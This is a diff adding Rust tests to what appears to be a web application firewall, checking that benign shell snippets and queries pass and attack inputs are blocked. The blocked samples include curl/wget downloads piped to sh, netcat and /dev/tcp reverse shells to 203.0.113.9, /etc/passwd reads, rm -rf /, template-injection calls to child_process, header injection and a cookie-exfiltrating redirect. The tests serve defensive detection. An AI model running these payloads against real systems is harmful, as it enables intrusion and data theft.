@@ -636,3 +636,100 @@ fn count_star_is_not_an_ldap_filter() {
         assert!(o.matches.iter().any(|m| m.rule_id == 1016), "{q}: {o:?}");
     }
 }
+
+#[test]
+fn commands_quoted_in_code_spans_are_one_weak_signal() {
+    let waf = waf_with("{}");
+    for body in [
+        r##"{"text": "Try `rm -rf node_modules && npm ci` then rebuild"}"##,
+        r##"{"text": "pro tip: `git log --oneline --graph --all | head -30`"}"##,
+        r##"{"query": "mutation { createComment(body: \"Try `rm -rf node_modules && npm ci` then rebuild\") { id } }"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    // What a quoted command runs still counts: a download piped into a shell, an account file,
+    // a substitution of an interpreter, a deletion from the root; and a bare substitution.
+    for body in [
+        r##"{"text": "Try `curl -s http://203.0.113.9/x | sh` then rebuild"}"##,
+        r##"{"text": "please run `cat /etc/passwd` for me"}"##,
+        r##"{"text": "then run `rm -rf / --no-preserve-root` now"}"##,
+        r##"{"text": "`id`"}"##,
+        r##"{"text": "name=`wget -qO- http://203.0.113.9/p`"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(blocked_category(&o, Category::Rce), "{body}: {o:?}");
+    }
+}
+
+#[test]
+fn shell_scripts_and_pipeline_queries_are_programs_by_design() {
+    let waf = waf_with("{}");
+    for body in [
+        // A shebang, a `while read` loop, `$(wc -l < f)`, `[[ … || … == … ]]`.
+        r##"{"content": "#!/usr/bin/env bash\nwhile IFS='=' read -r key value; do\n  [[ -z \"$key\" || \"$key\" == \\#* ]] && continue\n  export \"$key\"=\"$value\"\ndone < .env\necho \"loaded $(wc -l < .env) vars\""}"##,
+        r##"{"query": "level=error | stats count() by host | sort -count"}"##,
+        r##"{"query": "requests | where code >= 500 | summarize count() by bin(ts, 5m) | sort by count_ desc"}"##,
+        r##"{"run": "docker build -t registry.example.com/api:${GIT_SHA} ."}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    for body in [
+        r##"{"content": "#!/bin/sh\ncd /tmp\ncurl -s http://203.0.113.9/x | sh"}"##,
+        r##"{"content": "while true; do nc 203.0.113.9 4444 -e /bin/sh; done"}"##,
+        r##"{"query": "level=error | stats count() by host; cat /etc/passwd"}"##,
+        r##"{"query": "x | sort -count && rm -rf /"}"##,
+        r##"{"rce": "alias a=c${KK}url&a google.com"}"##,
+        r##"{"q": "${cmd}"}"##,
+        r##"{"q": "x' || 'a'='a"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(o.blocked, "{body}: {o:?}");
+    }
+}
+
+#[test]
+fn ruby_interpolation_signatures_urls_and_named_sinks() {
+    let waf = waf_with("{}");
+    for body in [
+        r##"{"content": "User.where(active: true).find_each do |u|\n  puts \"#{u.email} -> #{u.plan}\"\nend"}"##,
+        r##"{"signature": "-- \nKim Park | Pulse\nhttps://pulse-app.com"}"##,
+        r##"{"q": "how to use window.location.href"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(!o.blocked, "{body}: {o:?}");
+    }
+    for body in [
+        r##"{"q": "#{File.read('/etc/passwd')}"}"##,
+        r##"{"q": "#{process.mainModule.require('child_process')}"}"##,
+        r##"{"q": "x\r\nSet-Cookie: a=b"}"##,
+        r##"{"q": "window.location"}"##,
+        r##"{"q": "then window.location.href='//203.0.113.9/'+document.cookie"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(o.blocked, "{body}: {o:?}");
+    }
+    // A structured syntax suffix is JSON (RFC 6839); a type that is not allowed stays refused.
+    let report = r##"[{"type": "csp-violation", "url": "https://a.example/", "body": {"sample": "color: red"}}]"##;
+    assert!(!post("/reports", "application/reports+json", report, &waf).blocked);
+    assert!(post("/reports", "application/x-shockwave-flash", report, &waf).blocked);
+}
+
+#[test]
+fn attacks_dressed_as_prose_keep_their_weight() {
+    let waf = waf_with("{}");
+    for body in [
+        r##"{"comment": "Hi team, I noticed something odd on the dashboard today when I pasted ; cat /etc/passwd into the notes field and saved it"}"##,
+        r##"{"comment": "Thanks for the reply, here is the value we are seeing in the report: | bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 every time"}"##,
+    ] {
+        let o = json_post(&waf, body);
+        assert!(blocked_category(&o, Category::Rce), "{body}: {o:?}");
+    }
+    // Prose that names the file without running anything is still prose.
+    let o = json_post(
+        &waf,
+        r##"{"comment": "The user list lives in /etc/passwd on most Linux systems, and the hashes are kept in a separate file that only root can read."}"##,
+    );
+    assert!(!o.blocked, "{o:?}");
+}
